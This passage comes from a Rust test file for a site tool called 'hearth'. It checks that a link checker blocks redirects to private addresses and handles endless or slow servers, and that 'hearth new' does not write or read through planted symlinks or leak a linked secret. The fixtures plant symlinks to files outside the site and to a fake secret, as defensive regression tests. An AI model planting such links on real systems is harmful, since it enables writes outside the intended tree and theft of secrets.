                let _ = s.read(&mut [0u8; 2048]);
                let _ = s.write_all(b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n\r\n");
                let chunk = vec![b'x'; 64 * 1024];
                while s.write_all(&chunk).is_ok() {}
            });
        }
    });
    let redirect_url = format!("http://127.0.0.1:{redirecting}/go");
    let endless_url = format!("http://127.0.0.1:{endless_port}/");
    let started = Instant::now();
    let out = check_urls(
        &[redirect_url.clone(), endless_url.clone()],
        Duration::from_secs(60),
    );
    assert!(
        matches!(&out[&redirect_url], Outcome::NotChecked(why) if why.contains("127.0.0.2")),
        "{:?}",
        out[&redirect_url]
    );
    assert_eq!(
        private_hits.load(Ordering::SeqCst),
        0,
        "the redirect target was never contacted"
    );
    assert_eq!(out[&endless_url], Outcome::Ok(200));
    assert!(
        started.elapsed() < Duration::from_secs(5),
        "{:?}",
        started.elapsed()
    );

    // Slow links past the budget are reported as not checked.
    let slow = http_server(|_| {
        std::thread::sleep(Duration::from_millis(1500));
        "HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n".into()
    });
    let urls: Vec<String> = (0..4)
        .map(|i| format!("http://127.0.0.1:{slow}/{i}"))
        .collect();
    let started = Instant::now();
    let out = check_urls(&urls, Duration::from_secs(1));
    assert!(
        started.elapsed() < Duration::from_secs(5),
        "{:?}",
        started.elapsed()
    );
    let unchecked = out
        .values()
        .filter(|o| matches!(o, Outcome::NotChecked(_)))
        .count();
    assert!(unchecked >= 2, "{out:?}");
}

// 1–3. `hearth new` wrote through a planted link (a dangling `members/zed.md` link
// made a file wherever it pointed) and read and rewrote a links file linked out.
#[test]
fn hearth_new_never_writes_or_reads_through_a_link() {
    let site = common::community();
    let outside = tempfile::tempdir().unwrap();
    let target = outside.path().join("planted.md");
    link(&target, &site.path().join("members/zed.md"));
    let r = run(&["new", "member", "zed"], site.path());
    assert_ne!(r.code, 0, "{}", r.stderr);
    assert!(r.stderr.contains("members/zed.md"), "{}", r.stderr);
    assert!(!target.exists(), "nothing was written outside the site");

    let (_keep, secret) = secret();
    let links = site.path().join("links/links.yaml");
    link(&secret, &links);
    let r = run(&["new", "link", "https://new.example/"], site.path());
    assert_ne!(r.code, 0, "{}", r.stderr);
    assert!(!r.stderr.contains("hunter2"), "{}", r.stderr);
    assert_eq!(
        fs::read_to_string(&secret).unwrap(),
        "api_key: hunter2-SECRET\n- not: [valid\n"
    );
}
